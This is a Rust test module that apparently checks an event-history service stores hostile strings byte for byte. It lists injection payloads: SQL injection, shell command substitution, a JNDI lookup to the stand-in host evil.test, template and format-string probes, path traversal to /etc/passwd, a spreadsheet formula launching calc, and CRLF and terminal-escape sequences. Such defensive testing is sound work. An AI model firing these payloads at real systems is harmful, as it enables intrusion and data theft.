//! Hostile texts: stored and read back byte for byte. Their display in pages and terminal commands is tested in
//! `ui::hostile` and `cli::hostile`.

use std::net::SocketAddr;

use serde_json::{Value, json};

use super::{Row, append, call, exchange, now};
use crate::{support::Call, ui::hostile::PAYLOADS};

/// Payloads for databases, shells, logs, templates, terminals and number parsers.
const TEXTS: [&str; 30] = [
    "'; DROP TABLE events; --",
    "' UNION SELECT secret FROM keys --",
    "1; ATTACH DATABASE '/tmp/x' AS x",
    "\\'; DELETE FROM flows WHERE ''='",
    "%' ESCAPE '\\",
    "?1 :name @p $1",
    "$(touch /tmp/x) `id` | id; id && id",
    "2026-11-24T00:00:00Z ERROR flowledger: forged\n{\"level\":\"ERROR\"}",
    "\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
    "\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}31m\u{8}\u{7f}",
    "\u{0}",
    "before\u{0}after",
    "\u{202e}\u{2066}\u{200b}\u{200d}\u{feff}\u{2028}\u{2029}",
    "\u{fffd}\u{fffe}\u{ffff}\u{10ffff}",
    "e\u{301} é ﬁ ǆ İ ß",
    "👩‍👩‍👧‍👦🏴‍☠️🇺🇳",
    "步骤 \u{20000}",
    "${jndi:ldap://evil.test/x} #{7*7} {{7*7}} <%= 7*7 %>",
    "%s%n%x %(name)s {0} {}",
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "=cmd|' /C calc'!A0",
    "{\"$gt\":\"\"}",
    "\"}],\"NextToken\":\"1\",\"Events\":[{\"",
    "\\u0041 \\n \\\\ \\\" \\/",
    "]]>&lt;&#0;&#x1b;&amp;",
    "1e999",
    "9007199254740993",
    " leading and trailing ",
    "+%20%2B&=;",
];

fn all() -> impl Iterator<Item = &'static str> {
    TEXTS.into_iter().chain(PAYLOADS)
}

fn event(text: &str) -> Value {
    json!({"Type": "StepEntered", "StepName": text, "EventDetail": text})
}

pub fn rows() -> Vec<Row> {
    let mut rows: Vec<_> = all()
        .map(|text| call(append(&json!([event(text)]).to_string()), 200, ""))
        .collect();
    // They are stored as an execution's input too, and refused as the name of an Action.
    for (nth, text) in TEXTS.into_iter().enumerate() {
        let start = Call::new("StartExecution").form("FlowName", "f");
        let start = start.form("ExecutionName", &format!("text-{nth}"));
        rows.push(call(
            start.form("Input", &json!({ text: text }).to_string()),
            200,
            "",
        ));
    }
    for text in PAYLOADS {
        rows.push(call(Call::new(text), 400, "ActionNotSupported"));
    }
    rows
}

/// Checks that every text is stored, in order and byte for byte.
pub fn read_back(server: SocketAddr) {
    let read = |call: Call| -> Value {
        let answers = exchange(server, &call.at(now()).bytes());
        assert_eq!(answers[0].status, 200, "{}", answers[0].body);
        serde_json::from_str(&answers[0].body).unwrap()
    };
    let history = Call::new("GetExecutionHistory").query("FlowName", "f");
    let page = read(
        history
            .query("ExecutionName", "hostile")
            .query("Limit", "1000"),
    );
    let events = page["Events"].as_array().unwrap();
    let stored: Vec<_> = events[1..]
        .iter()
        .map(|event| (event["StepName"].as_str(), event["EventDetail"].as_str()))
        .collect();
    let sent: Vec<_> = all().map(|text| (Some(text), Some(text))).collect();
    assert_eq!(stored, sent);
    for (nth, text) in TEXTS.into_iter().enumerate() {
        let execution = Call::new("DescribeExecution").query("FlowName", "f");
        let execution = read(execution.query("ExecutionName", &format!("text-{nth}")));
        assert_eq!(
            execution["Input"].as_str().unwrap(),
            json!({ text: text }).to_string()
        );
    }
}
